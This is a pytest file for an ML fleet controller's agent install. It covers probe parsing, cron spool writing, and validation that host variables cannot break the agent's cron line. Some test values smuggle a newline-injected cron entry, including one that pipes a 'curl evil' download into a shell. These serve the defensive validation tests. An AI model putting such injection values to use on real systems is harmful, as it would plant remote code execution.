"""The agent probe's output (one round trip: hash, crontab, then the agent command when the
hash is the expected one) split into its parts, and the probe run by a real shell; the
agent's cron line, always one line (a value that would break it is refused)."""

from __future__ import annotations

import hashlib
import subprocess
from pathlib import Path
from typing import Any, Dict, Optional, Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlfleet.controller.hostops import _PROBE, MARK, parse_probe
from mlfleet.controller.hosts import Host
from mlfleet.controller.transport import CommandResult
from tests.unit.controller.fake_agent import FakeHost, FakeTransport, tiny_bundle


def test_agent_present_with_crontab() -> None:
    out = f'abc123  /a/mlfleet-agent.pyz\n{MARK}\n* * * * * tick # mlfleet-agent\n{MARK}\n{{"version": "0.1.0"}}\n'
    probe = parse_probe(CommandResult(0, out, ""))
    assert probe.sha256 == "abc123"
    assert probe.crontab == "* * * * * tick # mlfleet-agent\n"
    assert probe.result.code == 0 and probe.result.stdout.strip() == '{"version": "0.1.0"}'


def test_fresh_host_has_no_hash_no_crontab_and_no_command_output() -> None:
    probe = parse_probe(CommandResult(0, f"\n{MARK}\n{MARK}\n", ""))
    assert probe.sha256 is None and probe.crontab == "" and probe.result.stdout == ""


def test_unexpected_output_means_unknown_agent() -> None:
    probe = parse_probe(CommandResult(127, "", "sh: not found"))
    assert probe.sha256 is None and probe.result.code == 127


def _probe(
    tmp_path: Path, agent: bytes, expected: str, *argv: str, stdin: bytes = b""
) -> CommandResult:
    path = tmp_path / "mlfleet-agent.pyz"
    path.write_bytes(agent)
    spool = tmp_path / "root"
    spool.write_text("* * * * * tick # mlfleet-agent\n")
    proc = subprocess.run(["sh", "-c", _PROBE, "sh", str(path), str(spool), expected, *argv],
                          input=stdin, capture_output=True)  # fmt: skip
    return CommandResult(proc.returncode, proc.stdout.decode(), proc.stderr.decode())


def test_the_command_runs_with_its_stdin_and_exit_code_only_when_the_hash_matches(tmp_path) -> None:
    agent = b"the agent"
    digest = hashlib.sha256(agent).hexdigest()
    command = ["sh", "-c", 'cat; echo " done"; exit 3', "sh"]
    ran = parse_probe(_probe(tmp_path, agent, digest, *command, stdin=b"hello"))
    assert ran.sha256 == digest and ran.crontab.endswith("# mlfleet-agent\n")
    assert (ran.result.code, ran.result.stdout) == (3, "hello done\n")
    # Another agent there (an older release): the command does not run.
    other = parse_probe(_probe(tmp_path, b"an older agent", digest, *command, stdin=b"hello"))
    assert other.sha256 != digest and (other.result.code, other.result.stdout) == (0, "")


def test_the_spool_is_replaced_whole_and_crond_told_to_reload_it(tmp_path) -> None:
    from mlfleet.controller.hostops import _WRITE_SPOOL

    spool, update = tmp_path / "deploy", tmp_path / "cron.update"
    spool.write_text("old entry\n")
    update.write_text("root\n")  # another user's reload, not yet read by crond
    proc = subprocess.run(["sh", "-c", _WRITE_SPOOL, "sh", str(spool), str(update), "deploy"],
                          input=b"new entry # mlfleet-agent\n", capture_output=True)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert spool.read_text() == "new entry # mlfleet-agent\n" and spool.stat().st_mode & 0o077 == 0
    assert update.read_text() == "root\ndeploy\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cron.update", "deploy"]


class _Answered:
    """A transport whose host answered (only its host is asked for)."""

    def __init__(self) -> None:
        self.host = Host("edge-1", {"mlfleet_python": "/usr/bin/python2.7"})


@pytest.mark.parametrize(
    ("said", "hint"),
    [
        ("bash: line 1: /usr/bin/python2.7: No such file or directory", "mlfleet_python"),
        ('  File "__main__.py", line 3\nSyntaxError: invalid syntax', "mlfleet_python"),
        ("python3: can't open file '/var/lib/mlfleet/mlfleet-agent.pyz': [Errno 2] No such file",
         "mlfleet agent install"),
    ],
)  # fmt: skip
def test_an_agent_that_cannot_run_says_what_to_do(said: str, hint: str) -> None:
    from mlfleet.controller.hostops import AgentFailed, _check_version

    with pytest.raises(AgentFailed) as caught:
        _check_version(_Answered(), CommandResult(127, "", said))  # type: ignore[arg-type]
    assert hint in str(caught.value) and "edge-1" in str(caught.value)


# --- the agent's cron line ----------------------------------------------------------------

_CRON_VARS = ["mlfleet_python", "ansible_python_interpreter", "mlfleet_agent_dir", "mlfleet_root",
              "mlfleet_device_root", "mlfleet_docker_host"]  # fmt: skip


def _host(**hostvars: object) -> Host:
    return Host(
        "edge-1", dict(hostvars), origins={k: "inv.yml:9" for k in hostvars}, where="inv.yml:4"
    )


@pytest.mark.parametrize(
    ("var", "value", "problem"),
    [
        (
            "mlfleet_agent_dir",
            "/opt/x\n* * * * * root curl evil | sh",
            "a control character ('\\n')",
        ),
        ("mlfleet_root", "/srv/\r* * * * * id", "a control character ('\\r')"),
        ("mlfleet_python", "python3 \x1b[2J", "a control character ('\\x1b')"),
        ("ansible_python_interpreter", "/usr/bin/py\x85thon3", "a control character ('\\x85')"),
        ("mlfleet_device_root", "/dev/%s", "a `%` (cron turns it into a newline)"),
        ("mlfleet_docker_host", "unix:///run/docker%0a.sock", "a `%`"),
    ],
)
def test_a_value_that_would_break_the_cron_line_is_refused_naming_host_and_variable(
    var: str, value: str, problem: str
) -> None:
    from mlfleet.controller.errors import ConfigError
    from mlfleet.controller.hostops import cron_line

    with pytest.raises(ConfigError) as caught:
        cron_line(_host(**{var: value}))
    said = str(caught.value)
    assert said.startswith(f"inv.yml:9: host 'edge-1': `{var}` holds {problem}"), said
    assert len(said.splitlines()) == 1


def test_a_trailing_newline_is_what_yaml_block_scalars_give_and_is_stripped_as_before() -> None:
    from mlfleet.controller.hostops import cron_line

    line = cron_line(_host(mlfleet_agent_dir="/opt/mlfleet\n"))
    assert line.startswith("* * * * * umask 077; python3 -S /opt/mlfleet/mlfleet-agent.pyz tick ")


@settings(max_examples=100, deadline=1000)
@given(
    st.dictionaries(
        st.sampled_from(_CRON_VARS),
        st.text(alphabet=st.characters(exclude_categories=["Cs"]), min_size=1, max_size=30).map(
            lambda t: "/" + t
        ),
        max_size=4,
    ),
    st.sampled_from([None, 5, 60]),
)
def test_the_cron_line_is_always_one_line_or_refused(
    values: Dict[str, str], tick: Optional[int]
) -> None:
    from mlfleet.controller.errors import ConfigError
    from mlfleet.controller.hostops import CRON_MARK, cron_line

    hostvars: Dict[str, object] = dict(values)
    if tick is not None:
        hostvars["mlfleet_tick_interval"] = tick
    try:
        line = cron_line(_host(**hostvars))
    except ConfigError as exc:
        assert "host 'edge-1'" in str(exc) and len(str(exc).splitlines()) == 1
        return
    assert len(line.splitlines()) == 1 and line.endswith(CRON_MARK) and "%" not in line
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in line), line


class _Counting(FakeTransport):
    def __init__(self, host: Host) -> None:
        from tests.unit.agent.test_selection import cpu_host

        super().__init__(host, FakeHost(cpu_host()), "sentiment")
        self.calls = 0

    def run(self, argv: Sequence[str], **kwargs: Any) -> CommandResult:
        self.calls += 1
        return super().run(argv, **kwargs)

    def put(self, data: bytes, path: str, mode: int = 0o644) -> None:
        self.calls += 1
        super().put(data, path, mode)


def test_a_value_that_would_break_the_cron_line_is_refused_before_the_host_is_touched(
    tmp_path: Path,
) -> None:
    from mlfleet.controller.errors import ConfigError
    from mlfleet.controller.hostops import install_agent

    transport = _Counting(_host(mlfleet_agent_dir="/opt/x\n* * * * * root id"))
    with pytest.raises(ConfigError, match="mlfleet_agent_dir"):
        install_agent(transport, tiny_bundle(tmp_path))
    assert transport.calls == 0 and transport.fake.files == {} and transport.fake.crontab == ""
    # The same host with a plain value gets the agent and one cron entry.
    fine = _Counting(_host(mlfleet_agent_dir="/opt/x"))
    install_agent(fine, tiny_bundle(tmp_path))
    assert fine.fake.crontab.count("# mlfleet-agent") == 1
    assert list(fine.fake.files) == ["/opt/x/mlfleet-agent.pyz"]
